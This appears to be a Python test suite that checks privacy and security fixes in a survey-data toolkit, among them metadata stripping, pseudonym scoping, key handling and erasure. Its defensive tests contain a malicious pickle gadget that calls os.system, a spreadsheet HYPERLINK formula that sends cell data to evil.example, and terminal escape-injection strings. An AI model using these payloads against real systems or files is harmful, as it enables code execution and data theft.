"""Data protection at rest (GitHub issue 13): store only what is needed, leave nothing behind, run nothing planted.

Each test is one finding of the issue; each failed on the code before the fix.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import sqlite3
import stat
import tempfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolkit import cli, codes
from toolkit.exceptions import DataError, StoreError
from toolkit.io import export, import_file
from toolkit.store import Store, Submission
from toolkit.store.schema import KEYED_MIGRATIONS

CODE = ("Ma", "07", "K", "Ha")


def disk_bytes(db: Path) -> bytes:
    """The database file and its write-ahead log and shared-memory file, as they are on disk now."""
    return b"".join(Path(f"{db}{s}").read_bytes() for s in ("", "-wal", "-shm") if Path(f"{db}{s}").exists())


def folder_bytes(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file())


# --------------------------------------------------------------------------- minimisation: the quarantine
LS_META = ["id", "submitdate", "lastpage", "startlanguage", "seed", "token", "startdate", "datestamp", "ipaddr", "refurl",
           "interviewtime", "groupTime12"]
LS_CODE = ["CODE[mother]", "CODE[birthday]", "CODE[birthplace]", "CODE[street]"]
LS_ITEMS = ["G01Q01[SQ001]", "G01Q01[SQ002]"]


def _write_ls(path: Path, rows: list[dict[str, str]]) -> None:
    header = LS_META + LS_CODE + LS_ITEMS
    lines = [";".join(f'"{h}"' for h in header)]
    lines += [";".join(f'"{r.get(h, "")}"' for h in header) for r in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_quarantine_keeps_no_limesurvey_token_ip_referrer_or_times(store: Store, tmp_path: Path):
    secrets_ = {"token": "tok-MAX-MUSTERMANN", "ipaddr": "192.0.2.77", "refurl": "https://intranet.example/u/mmustermann",
                "startdate": "2026-02-03 09:14:15", "datestamp": "2026-02-03 09:31:02", "interviewtime": "1007.31"}
    row = {"id": "1", "submitdate": "", "lastpage": "2", "startlanguage": "de", "seed": "918273", **secrets_,
           "CODE[mother]": "Ma", "CODE[birthday]": "7", "CODE[birthplace]": "K", "CODE[street]": "Ha",
           "G01Q01[SQ001]": "2", "G01Q01[SQ002]": "1"}
    path = tmp_path / "responses.csv"
    _write_ls(path, [row])
    res = import_file(store, path, instrument="reality_check", wave="t0", authority="BVA", format="limesurvey")
    assert res.n_quarantined == 1
    raw = json.loads(store.quarantined()["raw"][0])
    assert set(raw) == {"G01Q01[SQ001]", "G01Q01[SQ002]", "participant"}  # only what the toolkit reads
    on_disk = disk_bytes(store.path)
    for value in [*secrets_.values(), "918273"]:
        assert value.encode() not in on_disk, value


_marker = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=8, max_size=14).map(lambda s: "Zq" + s)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data(), n=st.integers(1, 5), wide=st.booleans())
def test_no_byte_of_an_unmapped_column_reaches_the_database(data, n: int, wide: bool):
    """Random imports (LimeSurvey with its meta columns, wide files with ignored code-element columns):
    good, bad and incomplete rows; no value of a column the toolkit does not map is anywhere in the file or its log."""
    markers: list[str] = []
    rows = []
    for k in range(n):
        value = data.draw(st.sampled_from(["1", "2", "7", "x", ""]), label="value")
        row: dict[str, str] = {}
        if wide:
            for e in ("mother", "birthday", "birthplace", "street"):
                row[e] = data.draw(_marker, label=e)
                markers.append(row[e])
            row["participant"] = f"A{k}"
            row["go1"], row["go2"] = value, "1"
        else:
            for col in LS_META:
                row[col] = data.draw(_marker, label=col)
                markers.append(row[col])
            if data.draw(st.booleans(), label="incomplete"):
                markers.remove(row["submitdate"])
                row["submitdate"] = ""
            row.update({"CODE[mother]": "Ma", "CODE[birthday]": str(k + 1), "CODE[birthplace]": "K", "CODE[street]": "Ha",
                        "G01Q01[SQ001]": value, "G01Q01[SQ002]": "1"})
        rows.append(row)
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        store = Store.init(folder / "c.sqlite")
        path = folder / "in.csv"
        if wide:
            pd.DataFrame(rows).to_csv(path, sep=";", index=False)
            import_file(store, path, instrument="reality_check", wave="t0", authority="BVA", participant_column="participant")
        else:
            _write_ls(path, rows)
            import_file(store, path, instrument="reality_check", wave="t0", authority="BVA", format="limesurvey")
        on_disk = disk_bytes(store.path)
        store.close()
        on_disk += disk_bytes(folder / "c.sqlite")
        for m in markers:
            assert m.encode() not in on_disk, m


# --------------------------------------------------------------------------- pseudonyms per authority
def test_pseudonyms_differ_between_authorities_and_link_within_one(store: Store, tmp_path: Path):
    store.add_authority("KBA", ministry="BMDV")
    for authority in ("BVA", "KBA"):
        store.submit(Submission(authority, CODE, "t0", "reality_check", {"go1": 2}))
    store.submit(Submission("BVA", ("Ma", "07", "K", "Hx"), "t1", "reality_check", {"go1": 1}))  # one typo: still linked
    codes_ = store.participant_codes()
    bva = codes_[codes_["authority"] == "BVA"].iloc[0]
    kba = codes_[codes_["authority"] == "KBA"].iloc[0]
    assert bva["participant"] != kba["participant"]
    assert not set(bva["elements"].split(".")) & set(kba["elements"].split("."))  # no element matches across authorities
    links = store.links()
    assert links[links["authority"] == "BVA"]["person"].nunique() == 1  # t0 and the t1 typo are one person
    export(store, tmp_path / "x.csv")
    data = pd.read_csv(tmp_path / "x.csv")
    assert data.groupby("participant")["authority"].nunique().max() == 1


def _make_legacy(db: Path, key: bytes) -> None:
    """Turn a database into what toolkit 0.2 wrote: unscoped hashes, a plain key file beside it, no cohort id."""
    con = sqlite3.connect(db)
    for pid, elements in con.execute("SELECT id, elements FROM participants").fetchall():
        # 0.2 stored HMAC(key, "pos:norm"); the scoped value cannot be undone, so recompute from the known code
        old = [hmac.new(key, f"{i}:{codes.normalise_element(e)}".encode(), hashlib.sha256).hexdigest()[:32] for i, e in enumerate(CODE)]
        con.execute("UPDATE participants SET elements = ?, code = ? WHERE id = ?", (".".join(old), codes.pseudonym(key, old), pid))
    con.execute("DELETE FROM schema_migrations WHERE name IN (?, ?)", ("0003_cohort_key", KEYED_MIGRATIONS[0]))
    con.execute("ALTER TABLE cohorts DROP COLUMN uid")
    con.execute("ALTER TABLE cohorts DROP COLUMN key_check")
    con.execute("DROP TABLE report_folders")
    con.commit()
    con.close()
    legacy = codes.legacy_key_path(db)
    fd = os.open(legacy, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    with os.fdopen(fd, "w") as fh:
        fh.write(key.hex() + "\n")


def test_an_old_database_gets_its_key_moved_and_its_pseudonyms_scoped(tmp_path: Path, caplog):
    db = tmp_path / "old.sqlite"
    with Store.init(db) as s:
        s.add_authority("BVA")
        s.add_authority("KBA")
        s.add_wave("t0")
        s.add_instrument("reality_check")
        for a in ("BVA", "KBA"):
            s.submit(Submission(a, CODE, "t0", "reality_check", {"go1": 2}))
        s.quarantine([{"source": "old.csv", "row": 2, "reason": "incomplete",  # what 0.2 kept of a LimeSurvey row
                       "raw": {"token": "tok-ERIKA-MUSTER", "ipaddr": "198.51.100.9", "G01Q01[SQ001]": "2", "participant": "P-X"}}])
        key, key_file = s.key, s.key_path
    key_file.unlink()
    _make_legacy(db, key)
    with Store(db) as s:
        assert not codes.legacy_key_path(db).exists() and s.key_path.parent == codes.key_dir()
        assert any("moved the code key" in r.message for r in caplog.records)
        got = dict(zip(s.participant_codes()["authority"], s.participant_codes()["participant"]))
        assert got == {a: s.pseudonym(a, CODE) for a in ("BVA", "KBA")} and got["BVA"] != got["KBA"]
        assert json.loads(s.quarantined()["raw"][0]) == {"G01Q01[SQ001]": "2", "participant": None}
        s.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        assert b"tok-ERIKA-MUSTER" not in disk_bytes(db) and b"198.51.100.9" not in disk_bytes(db)


# --------------------------------------------------------------------------- the key
def test_init_puts_the_key_in_the_data_dir_and_never_reuses_one_silently(tmp_path: Path, capsys):
    db = tmp_path / "c.sqlite"
    assert cli.main(["init", str(db)]) == 0
    with Store(db) as s:
        assert s.key_path.parent == codes.key_dir() and s.cohort_uid in s.key_path.name
        assert stat.S_IMODE(s.key_path.stat().st_mode) == 0o600
    assert not [p for p in tmp_path.iterdir() if "key" in p.name]  # nothing beside the database
    # a stale key beside the new file is refused, not reused
    other = tmp_path / "new.sqlite"
    codes.legacy_key_path(other).write_text("ab" * 32 + "\n")
    os.chmod(codes.legacy_key_path(other), 0o600)
    capsys.readouterr()
    assert cli.main(["init", str(other)]) == 1
    assert "never reused silently" in capsys.readouterr().err and not other.exists()
    # reuse on purpose, but not a short or readable key
    short = tmp_path / "short.key"
    short.write_text("ab" * 8 + "\n")
    os.chmod(short, 0o600)
    assert cli.main(["init", str(tmp_path / "a.sqlite"), "--key", str(short)]) == 1
    assert "too short" in capsys.readouterr().err
    loose = tmp_path / "loose.key"
    loose.write_text("cd" * 32 + "\n")
    os.chmod(loose, 0o644)
    assert cli.main(["init", str(tmp_path / "b.sqlite"), "--key", str(loose)]) == 1
    assert "chmod 600" in capsys.readouterr().err
    os.chmod(loose, 0o600)
    assert cli.main(["init", str(tmp_path / "b.sqlite"), "--key", str(loose)]) == 0
    with Store(tmp_path / "b.sqlite") as s:
        assert s.key == bytes.fromhex("cd" * 32)
    assert not (tmp_path / "a.sqlite").exists()


def test_init_with_a_huge_group_size_fails_in_one_line_and_creates_nothing(tmp_path: Path, capsys):
    keys_before = set(codes.key_dir().glob("*.key")) if codes.key_dir().exists() else set()
    assert cli.main(["init", str(tmp_path / "c.sqlite"), "--min-group-size", "99999999999999999999"]) == 1
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: min_group_size must be a whole number") and len(err.splitlines()) == 1
    assert list(tmp_path.iterdir()) == []
    assert (set(codes.key_dir().glob("*.key")) if codes.key_dir().exists() else set()) == keys_before


def test_key_export_import_and_key_option_hand_the_key_over(store: Store, tmp_path: Path, capsys):
    store.submit(Submission("BVA", CODE, "t0", "reality_check", {"go1": 2}))
    me = store.pseudonym("BVA", CODE)
    db, installed = str(store.path), store.key_path
    store.close()
    handover = tmp_path / "handover.key"
    assert cli.main(["key", "export", str(handover), "--db", db]) == 0
    assert stat.S_IMODE(handover.stat().st_mode) == 0o600 and "SECRET" in handover.read_text()
    installed.unlink()  # the colleague's machine: no key yet
    csv = tmp_path / "in.csv"
    csv.write_text("mother;birthday;birthplace;street;go1\nMa;07;K;Ha;1\n", encoding="utf-8")
    argv = ["import", db, str(csv), "--instrument", "reality_check", "--wave", "t1", "--authority", "BVA"]
    capsys.readouterr()
    assert cli.main(argv) == 1
    err = capsys.readouterr().err.strip()
    assert "upo key import" in err and len(err.splitlines()) == 1
    try:
        assert cli.main([*argv, "--key", str(handover)]) == 0  # --key FILE without installing
    finally:
        os.environ.pop(codes.KEY_FILE_ENV, None)
    assert cli.main(["key", "import", str(handover)]) == 0 and installed.exists()
    with Store(db) as s:
        assert set(s.participant_codes()["participant"]) == {me}  # the same person, linked
    # a key of another cohort is refused
    other = Store.init(tmp_path / "other.sqlite")
    assert cli.main(["key", "import", str(handover), "--db", str(other.path)]) == 1
    assert "give the matching key" in capsys.readouterr().err


# --------------------------------------------------------------------------- the report cache
# (a batch never loads a pickle planted where older versions kept its cache, and removes its private cache folder:
# test_erasure_leaves_no_trace_in_file_log_reports_or_caches, below, renders such a batch)
def test_the_cache_reader_ignores_foreign_files_and_open_folders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    from toolkit.reports import context

    planted = tmp_path / "PWNED"

    class Boom:
        def __reduce__(self):
            return (os.system, (f"touch {planted}",))

    import pickle

    folder = Path(tempfile.mkdtemp(dir=tmp_path))
    secret = os.urandom(32)
    payload = pickle.dumps(Boom())
    (folder / "a.pkl").write_bytes(b"\0" * 32 + payload)  # unsigned
    assert context._read_cache(folder / "a.pkl", secret) is None
    (folder / "b.pkl").write_bytes(hmac.new(secret, payload, hashlib.sha256).digest() + payload)
    os.chmod(folder, 0o777)  # signed, but in a folder others could write
    assert context._read_cache(folder / "b.pkl", secret) is None
    assert not planted.exists()


# --------------------------------------------------------------------------- erasure
SECRET_TEXT = "Mein Vorgesetzter Herr Quendelmaier blockiert alles"
FREE_NAME = "Referat Z 17 Quendelmaier"


def _stakeholder_answers(store: Store, name: str) -> dict:
    inst = store.instrument("stakeholder_analysis")
    return {(it.id, name): 3.0 for it in inst.items if it.type == "rating_grid" and it.scale
            and 3.0 in inst.scales[it.scale].points}


def test_erasure_removes_free_stakeholder_names_only_that_person_typed(store: Store):
    store.submit(Submission("BVA", CODE, "t0", "stakeholder_analysis", _stakeholder_answers(store, FREE_NAME)))
    store.submit(Submission("BVA", ("Xa", "1", "Y", "Zz"), "t0", "stakeholder_analysis", _stakeholder_answers(store, "Personalrat")))
    assert store.erase(store.submissions()["participant"][0]) == 1
    keys = [r[0] for r in store.conn.execute("SELECT key FROM stakeholders")]
    assert FREE_NAME not in keys and keys
    assert FREE_NAME.encode() not in disk_bytes(store.path)


def test_erasure_fails_instead_of_claiming_success_while_a_reader_holds_the_file(store: Store):
    store.submit(Submission("BVA", CODE, "t0", "competence_reflection", {"rf_next": SECRET_TEXT}))
    reader = sqlite3.connect(store.path)
    reader.execute("BEGIN")
    reader.execute("SELECT COUNT(*) FROM answers").fetchone()
    who = store.submissions()["participant"][0]
    with pytest.raises(StoreError, match="another program still reads the database"):
        store.erase(who, wait=0.3)
    reader.close()
    assert store.erase(who, wait=2) == 0  # only finishes the clean-up
    assert SECRET_TEXT.encode() not in disk_bytes(store.path)


@pytest.mark.slow
def test_erasure_leaves_no_trace_in_file_log_reports_or_caches(tmp_path: Path, capsys, monkeypatch):
    """The first batch also shows that the report cache is private, signed and gone after the batch: a pickle planted
    where older versions kept the cohort cache (``out/.cache``) is never loaded, and the batch's private cache folder
    goes with the batch."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))  # this batch's cache folder, apart from other tests' batches
    monkeypatch.setenv("TMPDIR", str(tmp))  # and its workers' and kernels'
    import pickle

    from toolkit.demo import build_demo
    from toolkit.reports import render_reports

    db = tmp_path / "d.sqlite"
    with build_demo(db, n_authorities=1, seed=4) as s:
        code = s.authorities()["authority"][0]
        s.submit(Submission(code, CODE, "t2", "competence_reflection", {"rf_next": SECRET_TEXT}))
        s.submit(Submission(code, CODE, "t0", "stakeholder_analysis", _stakeholder_answers(s, FREE_NAME)))
        fp = s.fingerprint()
    out = tmp_path / "reports"
    planted = tmp_path / "PWNED"

    class Boom:
        def __reduce__(self):
            return (os.system, (f"touch {planted}",))

    (out / ".cache").mkdir(parents=True)
    (out / ".cache" / f"cohort-{fp[:24]}.pkl").write_bytes(pickle.dumps(Boom()))
    result = render_reports(db, authorities=None, out=out, cohort=True, jobs=1)
    assert result.ok, result.summary_text()
    assert not planted.exists()
    assert not (out / ".cache").exists() and not list(out.rglob("*.pkl"))
    assert not list(tmp.glob("upo-report-*"))  # the private folder went with the batch
    assert SECRET_TEXT.encode() in folder_bytes(out)  # the text was shown (group of k or more)
    capsys.readouterr()
    assert cli.main(["erase", str(db), "--code", *CODE]) == 0
    said = capsys.readouterr().out
    assert f"removed stale report {out / (code + '.html')}" in said
    assert SECRET_TEXT.encode() not in folder_bytes(out)
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["reports"][f"authority:{code}"]["stale"] == "erasure"
    with Store(db) as s:
        assert SECRET_TEXT.encode() not in disk_bytes(db) and FREE_NAME.encode() not in disk_bytes(db)
    again = render_reports(db, authorities=None, out=out, cohort=True, jobs=1)
    assert {r.report_id for r in again.rendered} >= {f"authority:{code}", "cohort"}
    for blob in (folder_bytes(out), disk_bytes(db)):
        assert SECRET_TEXT.encode() not in blob and FREE_NAME.encode() not in blob
    assert not list(tmp.glob("upo-report-*"))  # no batch cache stays behind


# --------------------------------------------------------------------------- exports and imports
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Details")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=2"]


def test_exports_neutralise_formula_like_text_and_the_database_keeps_it(store: Store, tmp_path: Path):
    for i, text in enumerate(FORMULAS):
        store.submit(Submission("BVA", ("Ma", str(i + 1), "K", "Ha"), "t0", "competence_reflection", {"rf_next": text}))
    export(store, tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere, codebook included
    data = pd.read_excel(tmp_path / "x.xlsx", sheet_name="data", dtype=str)
    shown = sorted(data["text"].dropna())
    assert len(shown) == len(FORMULAS) and all(t.startswith("'") for t in shown)
    assert sorted(t[1:].strip() for t in shown) == sorted(t.strip() for t in FORMULAS), shown
    notes = " ".join(str(c.value) for row in book["notes"].iter_rows() for c in row)
    assert "apostrophe" in notes and "database keeps the text as typed" in notes
    export(store, tmp_path / "x.csv")
    data = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False)
    for col in data.columns:
        assert not data[col].str.match(r"^[=+\-@\t\r]").any(), col
    assert sorted(store.texts()["text"]) == sorted(t.strip() for t in FORMULAS)  # the database keeps the text (trimmed on entry)


def test_xlsx_formulas_without_a_value_are_quarantined_with_the_reason(store: Store, tmp_path: Path, capsys):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["participant", "go1", "go2"])
    ws.append(["A", "=1+2", 1])
    ws.append(["B", 2, "=A1"])
    ws.append(["C", 1, 1])
    path = tmp_path / "in.xlsx"
    wb.save(path)
    assert cli.main(["import", str(store.path), str(path), "--instrument", "reality_check", "--wave", "t0", "--authority", "BVA"]) == 1
    q = store.quarantined()
    assert sorted(q.loc[q["value"].notna(), "value"]) == ["=1+2", "=A1"]
    assert q["reason"].str.contains("formula").sum() == 2 and len(store.submissions()) == 1


def _corrupt_unread_page(db: Path) -> None:
    """Damage a page no import reads (an overflow page of a stored outcome): PRAGMA quick_check fails, writes would not."""
    with Store(db) as s:
        s.save_outcome("note", {"blob": "Qx" * 20000})
        s.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    raw = bytearray(db.read_bytes())
    page = 4096
    first = raw.find(b"QxQxQxQx")
    target = (first // page + 2) * page  # an overflow page in the middle of the chain
    raw[target : target + 4] = b"\xff\xff\xff\xff"  # its next-page pointer
    db.write_bytes(bytes(raw))


def test_nothing_is_written_into_a_damaged_database(store: Store, tmp_path: Path, capsys):
    db = store.path
    store.close()
    _corrupt_unread_page(db)
    con = sqlite3.connect(db)
    try:
        assert con.execute("PRAGMA quick_check").fetchone()[0] != "ok"
    except sqlite3.DatabaseError:
        pass  # "malformed": damaged as well
    con.close()
    csv = tmp_path / "in.csv"
    csv.write_text("participant;go1\n" + "".join(f"A{i};1\n" for i in range(6)), encoding="utf-8")
    code = cli.main(["import", str(db), str(csv), "--instrument", "reality_check", "--wave", "t0", "--authority", "BVA"])
    err = capsys.readouterr().err.strip()
    assert code == 1 and len(err.splitlines()) == 1 and "damaged" in err and "nothing was written" in err
    con = sqlite3.connect(db)
    assert con.execute("SELECT COUNT(*) FROM submissions").fetchone()[0] == 0
    con.close()
    # and no report kernel starts on it
    assert cli.main(["report", str(db), "--all", "--out", str(tmp_path / "r")]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "damaged" in err and "kernel" not in err


# --------------------------------------------------------------------------- no tracebacks
def test_scores_of_a_wave_without_answers(store: Store, tmp_path: Path, capsys):
    csv = tmp_path / "bad.csv"
    csv.write_text("participant;go1\nA;7\nB;8\n", encoding="utf-8")
    import_file(store, csv, instrument="reality_check", wave="t0", authority="BVA")
    for fmt in ("table", "json"):
        assert cli.main(["scores", str(store.path), "--instrument", "reality_check", "--wave", "t0", "--by", "authority", "--format", fmt]) == 0
    out = capsys.readouterr().out
    assert "(no rows)" in out and "[]" in out


def test_control_characters_never_reach_the_terminal(store: Store, capsys):
    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31mBVA\x9b"
    assert cli.main(["authority", "add", str(store.path), "X1", "--name", evil, "--ministry", "B\rMI"]) == 0
    assert cli.main(["authority", "list", str(store.path)]) == 0
    out = capsys.readouterr().out
    assert not any(ord(c) < 32 and c not in "\n\t" or 0x7F <= ord(c) < 0xA0 for c in out)
    assert "[31mBVA" in out  # the text stays readable, the escape character goes


def test_infinite_scale_points_are_rejected(tmp_path: Path, capsys):
    from toolkit.instruments import SURVEYS_DIR

    text = (SURVEYS_DIR / "reality_check.yaml").read_text(encoding="utf-8").replace("points: [0, 1, 2]", "points: [0, 1, .inf]", 1)
    path = tmp_path / "inf.yaml"
    path.write_text(text, encoding="utf-8")
    assert cli.main(["instrument", "validate", str(path)]) == 1
    assert "not a finite number" in capsys.readouterr().err


def test_limesurvey_file_without_submitdate_says_so(store: Store, tmp_path: Path):
    path = tmp_path / "ls.csv"
    path.write_text('"id";"CODE[mother]";"CODE[birthday]";"CODE[birthplace]";"CODE[street]";"G01Q01[SQ001]"\n'
                    '"1";"Ma";"7";"K";"Ha";"2"\n', encoding="utf-8")
    res = import_file(store, path, instrument="reality_check", wave="t0", authority="BVA", format="limesurvey")
    assert res.n_imported == 1 and "no submitdate column" in res.summary_text()


def test_set_min_group_size_validates_too(store: Store):
    with pytest.raises(DataError, match="whole number from 1"):
        store.set_min_group_size(10**30)


def test_the_batch_cache_holds_no_pseudonyms_and_no_small_group_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    from toolkit.demo import build_demo
    from toolkit.reports import context

    db = tmp_path / "d.sqlite"
    with build_demo(db, n_authorities=1, seed=5) as s:
        code = s.authorities()["authority"][0]
        s.add_authority("KLEIN", ministry="BMI")
        for i in range(2):  # an authority with two respondents: below k
            s.submit(Submission("KLEIN", ("Qa", str(i + 1), "Q", "Qb"), "t0", "competence_reflection", {"rf_next": f"{SECRET_TEXT} {i}"}))
        pseudonyms = set(s.participant_codes()["participant"])
    folder = Path(tempfile.mkdtemp(dir=tmp_path))
    secret = os.urandom(32)
    target = context.write_cohort_cache(db, folder, secret=secret)
    blob = target.read_bytes()
    assert not [p for p in pseudonyms if p.encode() in blob]
    assert SECRET_TEXT.encode() not in blob
    context._MEMO.clear()
    monkeypatch.setenv(context.CACHE_ENV, str(folder))
    monkeypatch.setenv(context.CACHE_KEY_ENV, secret.hex())
    data = context.cohort_data(db)
    assert data.responses["competence_reflection"]["participant"].str.match(r"^R\d+$").all()  # read from the cache
    k = int(data.cohort["min_group_size"])
    for frame in data.texts.values():
        n = data.responses["competence_reflection"].groupby(["authority", "wave"], observed=True)["participant"].nunique()
        for (a, w), grp in frame.groupby(["authority", "wave"], observed=True):
            if n.get((a, w), 0) < k:
                assert grp["text"].isna().all()
    context._MEMO.clear()
